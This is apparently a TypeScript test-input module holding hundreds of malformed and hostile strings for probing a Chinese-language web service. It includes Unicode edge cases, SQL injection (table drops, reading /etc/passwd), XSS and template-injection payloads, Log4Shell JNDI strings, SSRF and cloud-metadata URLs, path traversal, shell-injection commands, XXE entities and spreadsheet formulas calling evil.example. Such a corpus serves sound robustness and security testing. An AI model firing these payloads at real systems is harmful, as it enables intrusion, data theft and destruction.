/** Texts that break careless services. What the eye cannot see is written as an escape. */
type Text = readonly [name: string, text: string]

const hex = (point: number) => point.toString(16).padStart(4, '0')
const around = (middle: string) => `路灯坏了${middle}请来修一修`
/** Texts named after their kind and place in it. */
const family = (kind: string, texts: readonly string[]): Text[] =>
  texts.map((text, index) => [`${kind} ${index + 1}`, text])
const inside = (pairs: readonly Text[]): Text[] => pairs.map(([name, text]) => [name, around(text)])
const from = (first: number, last: number) => Array.from({ length: last - first + 1 }, (_, at) => first + at)

/** NUL and every other control character, C0, DEL and C1. */
const controls: Text[] = [...from(0, 0x1f), ...from(0x7f, 0x9f)].map((point) => [
  `control ${hex(point)}`,
  around(String.fromCodePoint(point))
])

const surrogates: Text[] = inside([
  ['lone high surrogate', '\ud83d'],
  ['lone low surrogate', '\ude21'],
  ['reversed surrogates', '\ude21\ud83d'],
  ['two high surrogates', '\ud83d\ud83d'],
  ['last high, first low', '\udbff\udc00'],
  ['high surrogate before NUL', '\ud83d\u0000'],
  ['hundred lone surrogates', '\ud800'.repeat(100)]
]).concat([
  ['high surrogate at the end', '路灯坏了请修\ud83d'],
  ['low surrogate at the start', '\ude21路灯坏了请修'],
  ['only lone surrogates', '\ud800\udfff\ud800\ud800'],
  ['emoji cut at 2000', `${'长'.repeat(1999)}\u{1f621}`],
  ['escaped surrogate as text', '路灯坏了\\ud83d请修'],
  ['CESU-8 look', '路灯坏了\u00ed\u00a0\u00bd\u00ed\u00b8\u00a1']
])

const invisible: Text[] = inside([
  ['zero-width space', '\u200b'],
  ['zero-width non-joiner', '\u200c'],
  ['zero-width joiner', '\u200d'],
  ['word joiner', '\u2060'],
  ['byte order mark inside', '\ufeff'],
  ['swapped byte order mark', '\ufffe'],
  ['noncharacter ffff', '\uffff'],
  ['noncharacter fdd0', '\ufdd0'],
  ['noncharacter 1ffff', '\u{1ffff}'],
  ['last code point', '\u{10ffff}'],
  ['private use', '\ue000\uf8ff'],
  ['private use plane 15', '\u{f0000}\u{ffffd}'],
  ['unassigned', '\u0378\u{e0fff}'],
  ['replacement character', '\ufffd'],
  ['object replacement', '\ufffc'],
  ['annotation anchors', '\ufff9\ufffa\ufffb'],
  ['soft hyphen', '\u00ad'],
  ['hangul filler', '\u3164\uffa0\u115f'],
  ['invisible times', '\u2062\u2063\u2064'],
  ['line separator', '\u2028'],
  ['paragraph separator', '\u2029'],
  ['no-break spaces', '\u00a0\u202f\u2007'],
  ['mongolian vowel separator', '\u180e'],
  ['combining grapheme joiner', '\u034f'],
  ['variation selectors', '\ufe00\ufe0f\u{e0100}\u{e01ef}'],
  ['tag characters', '\u{e0068}\u{e0069}\u{e007f}'],
  ['bidi override', '\u202e' + '了修\u202c'],
  ['bidi override open', '\u202e'],
  ['bidi embedding', '\u202a\u202b\u202c'],
  ['bidi isolates', '\u2066\u2067\u2068\u2069'],
  ['bidi isolate open', '\u2067'],
  ['bidi marks', '\u200e\u200f\u061c'],
  ['bidi depth 200', '\u202b'.repeat(200)],
  ['deprecated format', '\u206a\u206b\u206c\u206d\u206e\u206f'],
  ['thousand zero-width', '\u200b'.repeat(1000)]
]).concat([
  ['byte order mark first', '\ufeff路灯坏了请修'],
  ['only zero-width', '\u200b\u200b\u200b\u200b\u200b'],
  ['only byte order marks', '\ufeff'.repeat(8)],
  ['only bidi marks', '\u202e\u2066\u200f\u061c\u2069'],
  ['name reversed by override', '附件\u202egpj.exe'],
  ['trojan source', '路灯/*\u202e } \u2066if (admin)\u2069 \u2066 begin*/']
])

const marks = from(0x300, 0x36f).map((point) => String.fromCodePoint(point))
const scripts: Text[] = [
  ['zalgo', [...'路灯坏了请修'].map((letter) => letter + marks.slice(0, 40).join('')).join('')],
  ['zalgo 1900 marks', `路灯坏了${'\u0300\u0489\u0334'.repeat(633)}`],
  ['only combining marks', '\u0300\u0301\u0302\u0303\u0304\u20dd'],
  ['mark first', '\u0301路灯坏了请修'],
  ['CJK Ext A', '㐀㐁䶵䶮这个字打不出来'],
  ['CJK Ext B', '\u{20000}\u{2070e}\u{2a6df}这个字打不出来'],
  ['CJK Ext C D', '\u{2a700}\u{2b740}\u{2b81d}这个字打不出来'],
  ['CJK Ext E F', '\u{2b820}\u{2ceb0}\u{2ebe0}这个字打不出来'],
  ['CJK Ext G H I', '\u{30000}\u{3134a}\u{31350}\u{2ebf0}这个字打不出来'],
  ['CJK compatibility', '\u{2f800}\uf900\ufa0e\u{2f81a}这个字打不出来'],
  ['ideographic description', '⿰氵⿱山火⿴囗人路灯坏了'],
  ['radicals as characters', '⼈⼝⽔⽕⺀⻌路灯坏了'],
  ['emoji family', '路灯坏了\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}请修'],
  ['emoji family of 200', `路灯坏了${Array(200).fill('\u{1f469}').join('\u200d')}`],
  ['emoji skin and sex', '路灯坏了\u{1f937}\u{1f3fd}\u200d\u2642\ufe0f请修'],
  ['half a flag', '路灯坏了\u{1f1e8}请修'],
  ['flag of England', '\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}路灯坏了'],
  ['keycap', '路灯坏了1\ufe0f\u20e3#\ufe0f\u20e3'],
  ['2000 emoji', '\u{1f621}'.repeat(2000)],
  ['1000 emoji', '\u{1f621}'.repeat(1000)],
  ['NFC', '\u00e9\u00f1\u1e69\uac00路灯坏了'],
  ['NFD', 'e\u0301n\u0303s\u0323\u0307\u1100\u1161路灯坏了'],
  ['angstrom three ways', '\u212b\u00c5A\u030a路灯坏了'],
  ['full-width letters', 'ｓｅｌｅｃｔ　＊　ｆｒｏｍ　ｕｓｅｒｓ'],
  ['full-width quotes', '＇＂｀＜ｓｃｒｉｐｔ＞alert(1)＜／ｓｃｒｉｐｔ＞'],
  ['modifier quote', '村ʼs路灯‘坏了’′″＇'],
  ['ligatures', 'ﬀﬁﬂﬃﬄﬅﷺﷻ路灯坏了'],
  ['grows eighteenfold', '\ufdfa'.repeat(110)],
  ['turkish i', 'İıIi\u0307路灯坏了'],
  ['sharp s and dz', 'ẞßſǅǆŉΐ路灯坏了'],
  ['homograph', 'раураl.соm аdmіn路灯坏了'],
  ['circled and mathematical', '①②⑩㈠㊣𝐚𝒃𝓬𝟙𝟚½Ⅷ路灯坏了'],
  ['kelvin and micro', '\u212a\u00b5\u2126路灯坏了'],
  ['arabic name', 'محمد بن عبد الله'],
  ['hebrew name', 'שָׁלוֹם בֶּן־דָּוִד'],
  ['uyghur name', 'ئابدۇللا تۇرسۇن'],
  ['tibetan name', 'བསྟན་འཛིན་རྒྱ་མཚོ་'],
  ['mongolian name', 'ᠮᠣᠩᠭᠣᠯ ᠬᠦᠮᠦᠨ'],
  ['yi name', 'ꆈꌠꁱꂷ路灯坏了'],
  ['middle dot names', '买买提·吐尔逊‧阿不都•拉'],
  ['thai without spaces', 'ไฟถนนเสียมานานกว่าหนึ่งเดือน'],
  ['indic crash', 'జ్ఞ\u200cా路灯坏了'],
  ['sindhi crash', '\u{1f1ee}\u{1f1f9}لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ'],
  ['one long word', 'x'.repeat(1999)],
  ['long word of marks', '！'.repeat(1999)],
  ['long url', `https://example.org/${'a'.repeat(1900)}`]
]

const sizes: Text[] = [
  ['empty', ''],
  ['one letter', '问'],
  ['four letters', '路灯坏了'],
  ['2000 letters', '长'.repeat(2000)],
  ['2001 letters', '长'.repeat(2001)],
  ['2000 letters and a space', `${'长'.repeat(2000)} `],
  ['60,000 letters', 'x'.repeat(60_000)],
  ['21,000 Chinese letters', '长'.repeat(21_000)],
  ['1,000,000 letters', 'x'.repeat(1_000_000)],
  ['1,000,000 Chinese letters', '长'.repeat(1_000_000)],
  ['only spaces', ' '.repeat(20)],
  ['only ideographic spaces', '\u3000'.repeat(20)],
  ['only no-break spaces', '\u00a0'.repeat(20)],
  ['only tabs', '\t'.repeat(20)],
  ['only line breaks', '\n'.repeat(20)],
  ['only CRLF', '\r\n'.repeat(20)],
  ['2000 spaces', ' '.repeat(2000)],
  ['2000 line breaks', '\n'.repeat(2000)],
  ['1000 lines', '行\n'.repeat(1000)],
  ['spaces around', ' \t\u3000\u00a0路灯坏了\u00a0\u3000\t '],
  ['space in the middle of 1900', `路灯${' '.repeat(1900)}坏了`],
  ['old Mac lines', '第一件\r第二件\r第三件'],
  ['mixed line ends', '第一件\n\r\r\n\n第二件\u0085第三件'],
  ['one letter 2000 times', '的'.repeat(2000)],
  ['only punctuation', '！？。，；：、……——《》（）'],
  ['only digits', '1234567890123456789012345678901234567890']
]

const logs = family('header', [
  '路灯坏了\r\nSet-Cookie: admin=1',
  '路灯坏了\r\n\r\n<html>alert</html>',
  '路灯坏了\nLocation: https://evil.example',
  '路灯坏了%0d%0aSet-Cookie:admin=1',
  '路灯坏了\u560d\u560aSet-Cookie: admin=1',
  '路灯坏了\r\n.\r\nMAIL FROM:<a@evil.example>',
  '路灯坏了\nBcc: all@evil.example\n\n你好'
]).concat(
  family('log', [
    '路灯坏了\n{"level":30,"msg":"admin signed in"}',
    '路灯坏了\n2026-03-02T09:00:00 INFO sign-in ok user=admin',
    '路灯坏了"},{"level":60,"msg":"forged"',
    '路灯坏了\u001b[2J\u001b[1;1H\u001b[31mroot#',
    '路灯坏了\u009b31m\u009d0;title\u0007',
    '路灯坏了\b\b\b\b\b\b\b\b修好了',
    '路灯坏了\n\n\n\n\n\n[2026-03-02] audit chain verified',
    '%s%s%s%n%n%x%d%j%o%O%c',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
    '${jndi:ldap://127.0.0.1:1389/a}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
    '${${lower:j}ndi:${lower:l}dap://127.0.0.1/a}'
  ])
)

const sql = family('sql', [
  `路灯' or '1'='1`,
  `路灯'; drop table questions; --`,
  `路灯"; drop table questions; --`,
  `路灯') ; delete from accounts where ('1'='1`,
  `路灯' union select null, phone_sealed from accounts --`,
  '路灯坏了/* 注释 */-- 注释',
  '路灯坏了/*',
  '路灯坏了*/',
  '路灯坏了--',
  `'''''''''''''''`,
  `路灯\\'; select pg_sleep(10); --`,
  `路灯坏了\u0027||(select version())||\u0027`,
  '路灯$$坏了$$; select 1; $$',
  '路灯$tag$坏了$tag$',
  `E'\\x27; drop table questions'`,
  `U&'\\0027; select 1' uescape '\\'`,
  `'; copy (select '') to program 'id > /tmp/x'; --`,
  `'; select pg_read_file('/etc/passwd'); --`,
  `'; select lo_import('/etc/passwd'); --`,
  `'; set role postgres; --`,
  `'; notify x, 'y'; listen x; --`,
  `' and 1=cast((select current_user) as int) --`,
  `' || pg_sleep(5) || '`,
  '1; commit; begin; --',
  '路灯坏了\u00bf\u0027 or 1=1 --',
  '$1',
  '$1 $2 $99999 :name ?',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
  '${sql.raw("1")} #{1+1} {0}',
  '%s %d %(name)s %%',
  '?? ??| ??& ?| ?&',
  '::int ::regclass ::uuid',
  `ARRAY[1,2] {a,b,"c"} '{}'::text[]`,
  '{NULL,"a\\"b",{}}',
  '(1,"a,b",)',
  '\\N',
  '\\.',
  '\\x00deadbeef',
  '\\u0000 \\000 \\x00 &#0;'
])

const search = family('like', [
  '%',
  '%%%%',
  '_',
  '____',
  '\\',
  '\\\\%',
  '路灯\\',
  '%路%灯%',
  '[a-z]%',
  '路灯\\_\\%'
])
  .concat(family('like many', ['%_'.repeat(900), '\\'.repeat(1999)]))
  .concat(
    family('tsquery', [
      '路灯 & 坏',
      '路灯 | 坏',
      '!路灯',
      '!!!!',
      '路灯 <-> 坏',
      '路灯 <99999999999> 坏',
      '路灯:*',
      '路灯:ABCD*',
      `'路灯 坏'`,
      `'路灯`,
      '(路灯',
      '路灯)',
      '((((((((((路灯',
      '& | ! <->',
      ':*:*:*:*',
      '"路灯" -坏 or 修',
      '路灯\\:坏\\&',
      '路灯 & '.repeat(240)
    ])
  )
  .concat(
    family('regex', [
      '(a+)+$',
      `${'a'.repeat(1900)}!`,
      '(.*)*(.*)*(.*)*x',
      '^(([a-z])+.)+[A-Z]([a-z])+$',
      '[',
      '(?<=',
      '\\Q路灯\\E(',
      '.*',
      '(?i)路灯',
      '***=路灯',
      '路灯{99999}',
      '[[:alpha:]]{1,255}',
      ` ${' '.repeat(1990)}x`,
      `${'/'.repeat(1990)}x`,
      `${'1'.repeat(1990)}x`,
      `${'-1'.repeat(990)}@`,
      `${'【'.repeat(1000)}`,
      `${'【】'.repeat(1000)}`,
      `${'<'.repeat(1999)}`,
      `${'a@'.repeat(999)}`
    ])
  )

const code = family('json', [
  '{"$gt":""}',
  '{"role":"admin"}',
  '"},"role":"admin","x":{"',
  '[object Object]',
  '{"__proto__":{"isAdmin":true}}',
  '\\"\\u0000\\"',
  '{"a":'.repeat(300),
  '['.repeat(1999)
])
  .concat(
    family('word', [
      '__proto__',
      'constructor',
      'prototype',
      'hasOwnProperty',
      'toString',
      'valueOf',
      '__defineGetter__',
      'toJSON',
      'then',
      'length',
      'null',
      'undefined',
      'true',
      'false',
      'None',
      'nil',
      'NULL',
      '(null)',
      'on',
      'yes',
      'default',
      'all',
      'admin',
      'system'
    ])
  )
  .concat(
    family('html', [
      '<script>alert(1)</script>',
      '</script><script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '<svg/onload=alert(1)>',
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<style>@import "//evil.example/x.css"</style>',
      '"><iframe srcdoc="<script>alert(1)</script>">',
      `' onmouseover='alert(1)`,
      '`onload=alert(1)`',
      '<a href="javascript:alert(1)">点我</a>',
      '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<!--<img src="--><img src=x onerror=alert(1)//">',
      '<b><i><u>路灯',
      '</textarea></title></body></html>',
      '<meta http-equiv=refresh content="0;url=//evil.example">',
      '<base href=//evil.example/>',
      '<object data="data:text/html,<script>alert(1)</script>">',
      '&lt;script&gt;alert(1)&lt;/script&gt;',
      '&#x3c;script&#x3e;alert(1)',
      '&amp;amp;&nbsp;&#0;&#xd800;&bogus;',
      '\\u003cscript\\u003ealert(1)',
      '<ScRiPt\u0009>alert(1)</sCrIpT\n>',
      '<\u200bscript>alert(1)</script>',
      '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
      '<wxs>module.exports=1</wxs><web-view src="//evil.example"/>',
      '<rich-text nodes="{{a}}"></rich-text>',
      '<![CDATA[路灯坏了]]>',
      ']]>路灯坏了<![CDATA['
    ])
  )
  .concat(
    family('template', [
      '{{7*7}}',
      '{{constructor.constructor("alert(1)")()}}',
      '<%= 7*7 %>',
      '#{7*7}',
      '{% for x in y %}',
      '{{#each a}}{{/each}}',
      '[[7*7]] [(7*7)]',
      '{{thing1.DATA}}',
      '【姓名】【】【【】】'
    ])
  )
  .concat(
    family('link', [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      'java\tscript:alert(1)',
      '\u0001javascript:alert(1)',
      'data:text/html;base64,PHNjcmlwdD4=',
      'vbscript:msgbox(1)',
      '[点我](javascript:alert(1))',
      '![图](https://evil.example/x.png)',
      '[点我](<javascript:alert(1)> "标题")',
      '//evil.example',
      'https://gov.cn@evil.example/',
      'https://evil.example\\@gov.cn/',
      'http://127.0.0.1:5432/',
      'http://169.254.169.254/latest/meta-data/',
      'http://[::1]/',
      'http://0x7f000001/',
      'file:///etc/passwd',
      'weixin://dl/business/?t=x',
      'tel:110',
      '/pages/index?scene=../admin',
      'https://例子.测试/路?a=1&b=2#c'
    ])
  )

const opening = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\t=', '\r=', '\n=', ' =', '\u3000=', '\u00a0=']
const sheets = family(
  'formula',
  [...opening, '\u200b=', '\ufeff=', '\u202e=', '\u0000=', "'=", '"=', '`=', '|=', ';=', ',=', '",="'].map(
    (start) => `${start}HYPERLINK("http://evil.example","点我")`
  )
).concat(
  family('sheet', [
    `=cmd|'/c calc'!A0`,
    `@SUM(1+1)*cmd|'/c calc'!A0`,
    `-2+3+cmd|'/c calc'!A0`,
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '+8613800000000',
    '-----',
    '=',
    '"路灯","坏了"\n"假行","admin"',
    '路灯"坏了""',
    '"\r\n=1+1',
    'sep=;',
    'ID;路灯',
    '_x000D__x0000_',
    '370829199001011234',
    '00012345',
    '1-2',
    '3/4'
  ])
)

const systems = family('path', [
  '../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '..%2f..%2fetc%2fpasswd',
  '..%252f..%252fetc',
  '..%c0%af..%c0%afetc',
  '%2e%2e/%2e%2e/etc',
  '....//....//etc',
  '/etc/passwd%00.jpg',
  '/etc/passwd\u0000.jpg',
  'C:\\Windows\\System32',
  '\\\\evil.example\\share',
  'CON',
  'NUL.txt',
  'COM1\u00b9',
  'LPT1.jpg',
  'AUX',
  'a:b:$DATA',
  '~root/.ssh/id_rsa',
  '.',
  '..',
  '/',
  '.htaccess',
  '%E0%A4%A',
  '%ff%fe',
  '%00',
  'a/b?c#d;e'
])
  .concat(
    family('shell', [
      '; id',
      '| id',
      '&& id',
      '`id`',
      '$(id)',
      '\n/bin/sh -c id\n',
      '() { :;}; echo x',
      '-rf --help -o=x',
      '"; shutdown -h now; "',
      '<(id) >(id) 2>&1',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: it is sent as it stands
      'cat${IFS}/etc/passwd',
      '!! !$ ^a^b'
    ])
  )
  .concat(family('ldap', ['*)(uid=*))(|(uid=*', 'admin)(&)', '*', '\\2a\\28', 'cn=a,dc=b\\00']))
  .concat(
    family('xml', [
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;">]><a>&d;</a>',
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd">%b;]>',
      '<xi:include href="file:///etc/passwd" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
      `' or count(/*)=1 or 'a'='b`,
      '<a xmlns:a="a" a:a="a"><b></a></b>',
      '&lol9;'
    ])
  )

const values = family('number', [
  '1e309',
  '-1e309',
  'NaN',
  'Infinity',
  '-Infinity',
  '-0',
  '0x1F',
  '0b11',
  '0o17',
  '1_000',
  '1,000.5',
  '1e-400',
  '９９９',
  '一百二十三',
  '٣٤٥',
  '9007199254740993',
  '99999999999999999999',
  '2147483648',
  '0.1e1',
  '1.',
  '.5',
  '+1',
  '1 2',
  '0000',
  '-1',
  '1n'
])
  .concat(
    family('date', [
      '2026-02-30',
      '2025-02-29',
      '2026-13-01',
      '2026-00-00',
      '0000-00-00',
      '0000-01-01',
      '9999-12-31',
      '10000-01-01',
      '-000001-01-01',
      '+275760-09-13T00:00:00Z',
      '+275760-09-13T00:00:00.001Z',
      '2026-03-02T24:00:00Z',
      '2026-03-02T23:59:60Z',
      '2016-12-31T23:59:60Z',
      '2026-03-02T09:00:00+24:00',
      '2026-03-02T09:00:00-99:99',
      '2026-03-02T09:00:00.123456789123456789Z',
      '2026-03-02 09:00:00',
      '2026-W10-1',
      '20260302',
      '02/03/2026',
      '1582-10-10',
      '4713-01-01 BC',
      'infinity',
      '-infinity',
      'now',
      'epoch',
      'yesterday',
      'allballs',
      '2026-03-02T09:00:00[Asia/Shanghai]',
      '1752-09-03T00:00:00Z',
      '2026-03-02T09:00:00z',
      '２０２６-03-02'
    ])
  )
  .concat(
    family('id', [
      '00000000-0000-0000-0000-000000000000',
      'ffffffff-ffff-ffff-ffff-ffffffffffff',
      'FFFFFFFF-FFFF-4FFF-BFFF-FFFFFFFFFFFF',
      'urn:uuid:00000000-0000-4000-8000-000000000000',
      '{00000000-0000-4000-8000-000000000000}',
      '00000000000040008000000000000000',
      '00000000-0000-4000-8000-000000000000\n',
      '00000000-0000-4000-8000-00000000000g',
      '370829198801010011',
      '37082919880101001x',
      '370829202602300011',
      '37082919880101001Ｘ',
      '19900000000\n',
      '+86 199 0000 0000',
      '１９９００００００００'
    ])
  )

export const TEXTS: readonly Text[] = [
  ...controls,
  ...surrogates,
  ...invisible,
  ...scripts,
  ...sizes,
  ...logs,
  ...sql,
  ...search,
  ...code,
  ...sheets,
  ...systems,
  ...values
]
